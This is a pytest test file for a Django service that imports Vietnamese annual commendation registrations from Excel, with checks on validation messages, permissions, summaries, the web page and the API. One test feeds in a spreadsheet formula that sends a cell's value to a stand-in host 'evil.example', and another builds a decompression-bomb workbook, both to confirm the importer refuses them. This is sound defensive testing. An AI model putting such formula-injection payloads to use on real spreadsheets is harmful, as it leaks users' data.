"""Registration at the start of the year from Excel (đăng ký thi đua): the template prefilled with
the unit's officers, the import all or nothing with every bad line named, the hostile files
refused by the bounded reader, the web page and the API; and who registered what, counted per
unit and title and consolidated up the tree."""

import io
import tracemalloc

import openpyxl
import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from rest_framework.test import APIClient

from commendations.annual_titles.models import Registration
from commendations.annual_titles.selectors import registration_summary
from commendations.annual_titles.services import registration_add, registrations_import
from commendations.campaigns.models import AwardType
from commendations.tokens.services import api_token_issue
from tests.annual_titles.helpers import YEAR, officers
from tests.security.bombs import xlsx_with_sheet_xml
from workflow.models import AuditEvent

pytestmark = pytest.mark.django_db

HEADERS = ["Mã đơn vị", "Mã cán bộ", "Họ và tên", "Danh hiệu đăng ký"]
MB = 1024 * 1024


def _xlsx(lines, headers=HEADERS) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(headers)
    for line in lines:
        sheet.append(line)
    data = io.BytesIO()
    book.save(data)
    return data.getvalue()


def _upload(lines, headers=HEADERS) -> SimpleUploadedFile:
    return SimpleUploadedFile("dang-ky.xlsx", _xlsx(lines, headers))


@pytest.fixture
def people(district, commune):
    return officers(district, 2) + officers(commune, 1)


def test_a_unit_registers_its_officers_and_itself_and_units_below_from_excel(
    officer, district, commune, people
):
    chief, deputy, commune_man = people
    lines = [
        ["", "", district.name, "Đơn vị quyết thắng"],  # the unit itself, by the title's name
        ["", chief.code, chief.full_name, "CSTDCS"],  # by the title's code
        ["", deputy.code, deputy.full_name, ""],  # not registering: skipped
        [commune.code, "", "", "DVTT"],  # a unit below, as a collective
        [commune.code, commune_man.code, commune_man.full_name.upper(), "Chiến sĩ tiên tiến"],
        ["", chief.code, "", "CSTDCS"],  # twice in the file: once
    ]
    result = registrations_import(actor=officer, unit=district, year=YEAR, source=_upload(lines))
    assert result.existing == 0
    rows = Registration.objects.select_related("unit", "person", "award_type")
    made = {(r.unit.code, r.person.code if r.person else "", r.award_type.code) for r in rows}
    assert made == {
        (district.code, "", "DVQT"),
        (district.code, chief.code, "CSTDCS"),
        (commune.code, "", "DVTT"),
        (commune.code, commune_man.code, "CSTT"),
    }
    assert AuditEvent.objects.filter(kind="registration_recorded").count() == 4

    again = registrations_import(actor=officer, unit=district, year=YEAR, source=_upload(lines))
    assert again.created == [] and again.existing == 4
    assert Registration.objects.count() == 4


def test_every_bad_line_is_named_and_nothing_is_saved(officer, district, other_district, people):
    chief = people[0]
    stranger = officers(other_district, 1)[0]
    lines = [
        ["", chief.code, chief.full_name, "CSTDCS"],  # fine, but not saved
        ["", "CB-KHONG-CO", "", "CSTT"],
        ["", stranger.code, stranger.full_name, "CSTT"],
        ["", chief.code, "Nguyễn Văn Khác", "CSTT"],
        ["", "", "", "Chiến sĩ tiên tiến"],  # a collective for an individual title
        ["", chief.code, "", "Đơn vị quyết thắng"],  # an individual for a collective title
        ["", chief.code, "", "Bằng khen của Bộ trưởng"],
        ["CA-KHONG-CO", "", "", "DVQT"],
        [other_district.code, "", "", "DVQT"],
    ]
    with pytest.raises(ValidationError) as refused:
        registrations_import(actor=officer, unit=district, year=YEAR, source=_upload(lines))
    messages = refused.value.messages
    assert messages == [
        "Dòng 3: mã cán bộ “CB-KHONG-CO” không có.",
        f"Dòng 4: “{stranger.full_name}” không thuộc đơn vị {district.name}.",
        f"Dòng 5: mã cán bộ “{chief.code}” là “{chief.full_name}”, không phải “Nguyễn Văn Khác”.",
        "Dòng 6: danh hiệu “Chiến sĩ tiên tiến” không dành cho tập thể (thiếu mã cán bộ?).",
        "Dòng 7: danh hiệu “Đơn vị quyết thắng” không dành cho cá nhân.",
        "Dòng 8: “Bằng khen của Bộ trưởng” không phải danh hiệu thi đua.",
        "Dòng 9: không có đơn vị mã “CA-KHONG-CO”.",
        f"Dòng 10: đơn vị “{other_district.name}” không thuộc {district.name} "
        "(theo tổ chức hiện hành).",
    ]
    assert not Registration.objects.exists()


def test_missing_columns_and_an_empty_sheet_are_refused(officer, district):
    with pytest.raises(ValidationError, match="Thiếu cột: Danh hiệu đăng ký"):
        registrations_import(
            actor=officer, unit=district, year=YEAR, source=_upload([], ["Mã cán bộ", "Họ tên"])
        )
    with pytest.raises(ValidationError, match="không có dòng dữ liệu"):
        registrations_import(actor=officer, unit=district, year=YEAR, source=_upload([]))


def test_only_the_units_officer_imports(other_officer, member, district):
    source = _upload([["", "", "", "DVQT"]])
    for actor in (other_officer, member):
        with pytest.raises(PermissionDenied):
            registrations_import(actor=actor, unit=district, year=YEAR, source=source)


def test_a_formula_is_read_as_the_text_typed_and_refused(officer, district, people):
    chief = people[0]
    lines = [
        ["", '=HYPERLINK("http://evil.example/?d="&C2,"x")', "", "CSTT"],
        ["", chief.code, chief.full_name, "=A1"],
    ]
    with pytest.raises(ValidationError) as refused:
        registrations_import(actor=officer, unit=district, year=YEAR, source=_upload(lines))
    assert refused.value.messages == [
        "Dòng 2: ô “Mã cán bộ” chứa công thức; hãy dán giá trị.",
        "Dòng 3: ô “Danh hiệu đăng ký” chứa công thức; hãy dán giá trị.",
    ]
    assert not Registration.objects.exists()


def test_a_bomb_is_refused_before_it_is_parsed(officer, district):
    """About 50 MB of sheet XML in a few hundred KB: refused from the zip's directory."""
    content = xlsx_with_sheet_xml(rows=1500, columns=2000)
    assert len(content) < 1 * MB
    tracemalloc.start()
    try:
        with pytest.raises(ValidationError) as refused:
            registrations_import(
                actor=officer,
                unit=district,
                year=YEAR,
                source=SimpleUploadedFile("bomb.xlsx", content),
            )
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert "giải nén" in refused.value.messages[0]
    assert peak < 10 * MB + 2 * len(content), f"peak {peak / MB:.0f} MB"


def test_a_wide_sheet_stops_at_the_first_wide_row(officer, district):
    """The stream stops at the first row holding a value past the import's columns."""
    content = xlsx_with_sheet_xml(rows=50, columns=300)
    with pytest.raises(ValidationError) as refused:
        registrations_import(
            actor=officer, unit=district, year=YEAR, source=SimpleUploadedFile("w.xlsx", content)
        )
    assert "ngoài 8 cột của mẫu" in refused.value.messages[0]


def test_the_summary_counts_per_unit_and_title_consolidated_up_the_tree(
    officer, commune_officer, member, district, commune, people
):
    chief, _deputy, commune_man = people
    title = AwardType.objects.get
    registration_add(actor=officer, unit=district, year=YEAR, award_type=title(code="DVQT"))
    registration_add(
        actor=officer, unit=district, year=YEAR, award_type=title(code="CSTT"), person=chief
    )
    registration_add(
        actor=officer, unit=commune, year=YEAR, award_type=title(code="CSTT"), person=commune_man
    )
    registration_add(actor=officer, unit=commune, year=YEAR - 1, award_type=title(code="DVTT"))

    office = registration_summary(member, YEAR)
    assert [t.code for t in office.titles] == ["CSTT", "DVQT"]
    rows = {row.unit.code: row for row in office.rows}
    assert rows[district.code].counts == [1, 1] and rows[district.code].total == 2
    assert rows[district.code].with_units_below == 3  # the commune's consolidated into it
    assert rows[commune.code].counts == [1, 0] and rows[commune.code].with_units_below == 1
    assert office.totals == [2, 1] and office.total == 3

    mine = registration_summary(commune_officer, YEAR)
    assert [row.unit.code for row in mine.rows] == [commune.code] and mine.total == 1
    assert registration_summary(member, YEAR, commune).total == 1


# --- the page ------------------------------------------------------------------------------


def test_the_page_offers_the_template_imports_it_filled_and_exports_the_counts(
    client, officer, member, district, commune, people
):
    chief, deputy, commune_man = people
    client.force_login(officer)
    page = client.get("/registrations/").content.decode()
    assert 'data-form="registration-import"' in page
    template = client.get(f"/registrations/template.xlsx?unit={district.pk}")
    assert template.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(template.content))
    sheet = book.worksheets[0]
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == HEADERS
    assert rows[1][:3] == (district.code, None, district.name)  # the unit's own line
    listed = {r[1]: r[0] for r in rows[2:]}
    assert listed == {chief.code: district.code, deputy.code: district.code,
                      commune_man.code: commune.code}  # fmt: skip
    assert "Đơn vị quyết thắng" in [r[0] for r in book["Danh mục"].iter_rows(values_only=True)]

    sheet["D2"] = "Đơn vị quyết thắng"
    for row in sheet.iter_rows(min_row=3):
        if row[1].value == chief.code:
            row[3].value = "Chiến sĩ thi đua cơ sở"
    filled = io.BytesIO()
    book.save(filled)
    response = client.post(
        "/registrations/import/",
        {
            "unit": district.pk,
            "year": YEAR,
            "file": SimpleUploadedFile("mau.xlsx", filled.getvalue()),
        },
        follow=True,
    )
    assert "Đã nhập 2 đăng ký (0 dòng đã đăng ký từ trước)." in response.content.decode()
    assert Registration.objects.count() == 2

    bad = client.post(
        "/registrations/import/",
        {"unit": district.pk, "year": YEAR, "file": _upload([["", "CB-X", "", "CSTT"]])},
        follow=True,
    ).content.decode()
    assert "Dòng 2: mã cán bộ “CB-X” không có." in bad

    client.force_login(member)
    page = client.get(f"/registrations/?year={YEAR}").content.decode()
    assert 'data-table="registration-summary"' in page and chief.full_name in page
    export = client.get(f"/registrations/export.xlsx?year={YEAR}")
    book = openpyxl.load_workbook(io.BytesIO(export.content))
    summary = list(book.worksheets[0].iter_rows(values_only=True))
    assert summary[-1][0] == "Tổng cộng" and 2 in summary[-1]
    detail = list(book.worksheets[1].iter_rows(values_only=True))
    assert (chief.code, chief.full_name, "Chiến sĩ thi đua cơ sở") in [r[2:5] for r in detail]


def test_the_template_is_only_of_ones_own_units(client, officer, other_district):
    client.force_login(officer)
    assert client.get(f"/registrations/template.xlsx?unit={other_district.pk}").status_code == 404


# --- the API -------------------------------------------------------------------------------


@pytest.fixture
def as_user():
    def make(user) -> APIClient:
        client = APIClient()
        _token, key = api_token_issue(user=user)
        client.credentials(HTTP_AUTHORIZATION=f"Token {key}")
        return client

    return make


def test_the_api_imports_answers_every_bad_line_in_the_envelope_and_summarises(
    as_user, officer, member, district, people
):
    chief = people[0]
    api = as_user(officer)
    refused = api.post(
        "/api/v1/registrations/import/",
        {
            "unit": district.pk,
            "year": YEAR,
            "file": _upload([["", "CB-X", "", "CSTT"], ["", chief.code, "", "DVQT"]]),
        },
        format="multipart",
    )
    assert refused.status_code == 400
    assert refused.json() == {
        "code": "validation_error",
        "detail": "Dòng 2: mã cán bộ “CB-X” không có.",
        "fields": {
            "non_field_errors": [
                "Dòng 2: mã cán bộ “CB-X” không có.",
                "Dòng 3: danh hiệu “Đơn vị quyết thắng” không dành cho cá nhân.",
            ]
        },
    }
    made = api.post(
        "/api/v1/registrations/import/",
        {
            "unit": district.pk,
            "year": YEAR,
            "file": _upload([["", chief.code, chief.full_name, "CSTDCS"], ["", "", "", "DVQT"]]),
        },
        format="multipart",
    )
    assert made.status_code == 201, made.content
    body = made.json()
    assert body["created"] == 2 and body["existing"] == 0
    assert {r["award_type"] for r in body["registrations"]} == {"CSTDCS", "DVQT"}

    summary = as_user(member).get(f"/api/v1/registrations/summary/?year={YEAR}").json()
    assert summary["total"] == 2
    [row] = summary["units"]
    assert row["unit"] == district.pk and row["with_units_below"] == 2
    assert {t["award_type"]: t["count"] for t in summary["titles"]} == {"CSTDCS": 1, "DVQT": 1}

    template = api.get(f"/api/v1/registrations/template/?unit={district.pk}")
    assert template.status_code == 200 and template.content[:2] == b"PK"
    assert (
        as_user(member)
        .post(
            "/api/v1/registrations/import/",
            {"unit": district.pk, "year": YEAR, "file": _upload([["", "", "", "DVQT"]])},
            format="multipart",
        )
        .status_code
        == 403
    )


def test_the_import_takes_as_many_queries_for_thirty_lines_as_for_three(officer, district):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    many = officers(district, 33)

    def queries(people, year) -> int:
        lines = [["", p.code, p.full_name, "CSTT"] for p in people]
        with CaptureQueriesContext(connection) as captured:
            result = registrations_import(
                actor=officer, unit=district, year=year, source=_upload(lines)
            )
        assert len(result.created) == len(people)
        return len(captured)

    queries(many[:1], YEAR - 1)  # the caches (content types, the user's groups) warmed up
    assert queries(many[:3], YEAR) == queries(many[3:], YEAR + 1)
